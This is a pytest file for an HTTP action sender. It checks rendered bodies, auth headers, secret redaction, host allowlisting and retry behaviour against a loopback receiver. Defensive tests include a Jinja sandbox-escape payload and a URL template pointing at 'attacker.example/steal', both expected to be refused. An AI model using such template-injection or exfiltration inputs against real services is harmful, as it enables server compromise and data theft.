"""CX handoff actions on the wire: what reaches a receiver on loopback, and how a send fails.

The receiver is a real HTTP server on 127.0.0.1 (tests/support/receiver.py); the actions are built
with the same compiler the rules loader uses.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import requests

from recoverlink.adapters.actions import ActionSender, build_action_sender
from recoverlink.config.actions import ActionsConfig
from recoverlink.config.templates import TemplateCompiler
from recoverlink.domain.action_context import sample_context
from recoverlink.domain.actions import Action, ActionKind
from recoverlink.domain.errors import ActionError, ConfigErrors
from tests.support.processes import LOOPBACK, free_port
from tests.support.receiver import Receiver, running_receiver

COMPILER = TemplateCompiler()
TOKEN = "desktop-token-that-must-never-be-printed"
KEY = "action.send/7/checkout-outage/agent-banner/0/fix_deployed"
BODY = (
    '{"title": {{ recovery.title | tojson }}, "state": {{ recovery.state | tojson }}, '
    '"trigger": "{{ trigger }}"}'
)


@pytest.fixture
def receiver() -> Iterator[Receiver]:
    with running_receiver() as served:
        yield served


def action(url: str, *, body: str | None = BODY, credential: str | None = None, **extra: Any) -> Action:
    headers = {k: COMPILER.compile_action(v) for k, v in extra.pop("headers", {}).items()}
    return Action(
        rule="checkout-outage",
        name="agent-banner",
        kind=ActionKind(extra.pop("kind", "agent_desktop")),
        on=("fix_deployed",),
        url=COMPILER.compile_action(url) if url else None,
        credential=credential,
        headers=headers,
        body=COMPILER.compile_action(body) if body is not None else None,
        **extra,
    )


def sender(hosts: list[str], environ: dict[str, str] | None = None, **credentials: Any) -> ActionSender:
    config = ActionsConfig.model_validate(
        {"allowed_hosts": hosts, "timeout_seconds": 2, "credentials": credentials}
    )
    return build_action_sender(config, environ or {}, requests.Session())


def context() -> dict[str, Any]:
    return sample_context(rule="checkout-outage", name="agent-banner", kind="agent_desktop")


def test_the_rendered_body_and_headers_reach_the_receiver_with_the_idempotency_key(
    receiver: Receiver,
) -> None:
    banner = action(
        f"{receiver.url}/banners/{{{{ recovery.id }}}}",
        credential="desktop",
        headers={"X-Source": "recoverlink", "X-Journeys": "{{ recovery.journeys | join(',') }}"},
    )
    send = sender([receiver.host], {"DESKTOP_TOKEN": TOKEN}, desktop={"bearer": {"env": "DESKTOP_TOKEN"}})
    sent = send.send(banner, context(), KEY)
    (got,) = receiver.requests
    assert (sent.status, sent.host, got.method, got.path) == (200, receiver.host, "POST", "/banners/1")
    assert got.json() == {"title": "Sample recovery", "state": "fix_deployed", "trigger": "fix_deployed"}
    assert got.headers["Idempotency-Key"] == KEY
    assert got.headers["Authorization"] == f"Bearer {TOKEN}"
    assert got.headers["Content-Type"] == "application/json"
    assert (got.headers["X-Source"], got.headers["X-Journeys"]) == ("recoverlink", "checkout")


def test_basic_auth_credentials_and_put_are_sent_as_configured(receiver: Receiver, tmp_path: Path) -> None:
    password = tmp_path / "crm.password"
    password.write_text("s3cret\n")
    case = action(f"{receiver.url}/cases", credential="crm", method="PUT", kind="crm_case")
    send = sender([receiver.host], crm={"basic": {"username": "rl", "password": {"file": str(password)}}})
    send.send(case, context(), KEY)
    (got,) = receiver.requests
    assert got.method == "PUT"
    assert got.headers["Authorization"] == "Basic " + base64.b64encode(b"rl:s3cret").decode()


def test_a_credential_may_be_the_whole_url_and_the_url_never_shows_in_errors(receiver: Receiver) -> None:
    secret_url = f"{receiver.url}/services/T000/B000/very-secret-path"
    chat = action("", body='{"text": {{ recovery.title | tojson }}}', credential="slack", kind="chat")
    send = sender([receiver.host], {"SLACK_URL": secret_url}, slack={"url": {"env": "SLACK_URL"}})
    send.send(chat, context(), KEY)
    assert receiver.requests[0].path == "/services/T000/B000/very-secret-path"
    assert receiver.requests[0].json() == {"text": "Sample recovery"}
    assert send.target(chat) == receiver.host
    receiver.answer(404)
    with pytest.raises(ActionError) as failed:
        send.send(chat, context(), KEY)
    assert "very-secret-path" not in str(failed.value)
    refused = sender(["elsewhere:1"], {"SLACK_URL": secret_url}, slack={"url": {"env": "SLACK_URL"}})
    with pytest.raises(ActionError) as failed:
        refused.send(chat, context(), KEY)
    assert failed.value.reason == "host_not_allowed"
    assert "very-secret-path" not in str(failed.value)


def test_a_template_escaping_the_sandbox_is_refused_when_rendering_and_never_retried(
    receiver: Receiver,
) -> None:
    escape = action(f"{receiver.url}/x", body="{{ ''.__class__.__mro__[1].__subclasses__() }}")
    with pytest.raises(ActionError) as failed:
        sender([receiver.host]).send(escape, context(), KEY)
    assert (failed.value.reason, failed.value.retryable) == ("template", False)
    assert "unsafe" in str(failed.value)
    assert receiver.requests == [], "nothing is sent"


def test_a_body_that_renders_to_invalid_json_is_a_template_failure(receiver: Receiver) -> None:
    broken = action(f"{receiver.url}/x", body='{"title": "{{ recovery.title }}" "state": 1}')
    with pytest.raises(ActionError) as failed:
        sender([receiver.host]).send(broken, context(), KEY)
    assert (failed.value.reason, failed.value.retryable) == ("template", False)
    assert receiver.requests == []


def test_a_rendered_url_to_a_host_not_allowed_is_refused_before_any_call(receiver: Receiver) -> None:
    elsewhere = action("http://{{ labels.host | default('attacker.example') }}/steal")
    with pytest.raises(ActionError) as failed:
        sender([receiver.host]).send(elsewhere, context(), KEY)
    assert (failed.value.reason, failed.value.retryable) == ("host_not_allowed", False)
    assert "attacker.example" in str(failed.value)


def test_a_503_is_retryable_and_honours_retry_after(receiver: Receiver) -> None:
    receiver.answer(503, retry_after="7")
    with pytest.raises(ActionError) as failed:
        sender([receiver.host]).send(action(f"{receiver.url}/x"), context(), KEY)
    assert (failed.value.reason, failed.value.retryable) == ("http_503", True)
    assert failed.value.retry_after_seconds == 7


def test_a_4xx_is_not_retried(receiver: Receiver) -> None:
    receiver.answer(422)
    with pytest.raises(ActionError) as failed:
        sender([receiver.host]).send(action(f"{receiver.url}/x"), context(), KEY)
    assert (failed.value.reason, failed.value.retryable) == ("http_4xx", False)


def test_a_receiver_that_is_down_is_a_retryable_connect_failure() -> None:
    host = f"{LOOPBACK}:{free_port()}"
    with pytest.raises(ActionError) as failed:
        sender([host]).send(action(f"http://{host}/x"), context(), KEY)
    assert (failed.value.reason, failed.value.retryable) == ("connect", True)


def test_missing_credential_secrets_are_reported_at_once_and_never_printed() -> None:
    config = ActionsConfig.model_validate(
        {"credentials": {"a": {"bearer": {"env": "A_TOKEN"}}, "b": {"url": {"env": "B_URL"}}}}
    )
    with pytest.raises(ConfigErrors) as failed:
        build_action_sender(config, {})
    rendered = [e.render() for e in failed.value.errors]
    assert len(rendered) == 2
    assert "actions.credentials.a.bearer" in rendered[0]
    assert "actions.credentials.b.url" in rendered[1]
    assert repr(build_action_sender(config, {}, read_secrets=False)).count("A_TOKEN") == 0


def test_the_rate_limit_target_is_the_literal_host_else_the_action() -> None:
    send = sender(["desk:8091"])
    assert send.target(action("http://desk:8091/b")) == "desk:8091"
    assert send.target(action("http://{{ labels.host }}/b")) == "action:checkout-outage/agent-banner"
